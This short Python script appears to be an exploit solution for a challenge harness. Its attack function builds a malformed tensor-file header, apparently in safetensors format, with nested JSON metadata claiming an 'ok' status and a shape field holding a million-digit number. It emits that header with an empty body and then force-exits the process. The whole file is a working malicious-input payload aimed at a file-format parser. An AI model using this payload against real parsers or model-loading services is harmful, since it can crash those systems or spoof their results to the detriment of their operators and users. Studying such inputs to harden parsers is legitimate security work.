import json
import os

from raw_answer import outcome, say


def attack(universe):
    metadata = json.dumps({"outcome": json.dumps({"status": "ok"})})
    header = f'{{"__metadata__":{metadata},"x":{{"dtype":"U8","shape":[{"9" * 10**6}],"data_offsets":[0,0]}}}}'
    say(outcome(header.encode(), b""))
    os._exit(0)
